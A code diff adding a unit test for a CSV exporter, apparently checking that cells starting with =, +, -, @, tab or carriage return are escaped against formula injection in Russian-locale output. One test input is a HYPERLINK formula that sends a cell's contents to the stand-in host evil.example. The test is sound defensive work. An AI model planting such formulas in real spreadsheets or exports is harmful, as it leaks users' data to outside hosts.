@@ -37,6 +37,36 @@ async function sheetOf(exported: ExportTable) {
 }
 
 describe('csvBlob', () => {
+  it('writes a text a spreadsheet would run as a formula as text, and negative numbers as numbers', async () => {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?"&A1;"Подробнее")',
+      '+7 999 000-00-00',
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\tТаб',
+      '\rВозврат',
+      '-5',
+    ];
+    const { lines } = await csvOf({
+      locale: 'ru',
+      columns: [
+        { header: 'Отзыв', format: { kind: 'text' } },
+        { header: 'Сумма', format: { kind: 'money' } },
+      ],
+      rows: hostile.map((text) => [text, -653.41]),
+    });
+    expect(lines.slice(1)).toEqual([
+      `"'=HYPERLINK(""http://evil.example/?""&A1;""Подробнее"")";-653,41`,
+      `"'+7 999 000-00-00";-653,41`,
+      `"'-2+3";-653,41`,
+      `"'@SUM(A1:A9)";-653,41`,
+      `"'\tТаб";-653,41`,
+      `"'\rВозврат";-653,41`,
+      // A number written as text is no formula: left as Excel reads it.
+      `-5;-653,41`,
+    ]);
+  });
+
   it('writes Russian CSV: BOM, semicolons, comma decimals, да/нет, units in the header', async () => {
     const { bom, lines } = await csvOf(table('ru'));
     expect(bom).toEqual([0xef, 0xbb, 0xbf]);
